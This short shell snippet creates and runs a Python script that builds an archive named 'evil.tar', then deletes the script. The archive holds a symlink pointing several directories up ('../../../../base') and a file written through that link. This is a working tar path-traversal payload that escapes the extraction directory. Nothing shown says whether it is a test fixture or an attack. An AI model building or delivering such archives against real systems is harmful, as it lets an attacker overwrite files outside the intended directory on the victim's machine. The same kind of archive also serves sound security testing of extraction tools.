cat > make.py <<'PY'
import io, tarfile
with tarfile.open('evil.tar', 'w') as tar:
    link = tarfile.TarInfo('out'); link.type = tarfile.SYMTYPE; link.linkname = '../../../../base'; tar.addfile(link)
    through = tarfile.TarInfo('out/through'); through.size = 1; through.mtime = 981173106; tar.addfile(through, io.BytesIO(b'x'))
PY
python3 make.py && rm make.py
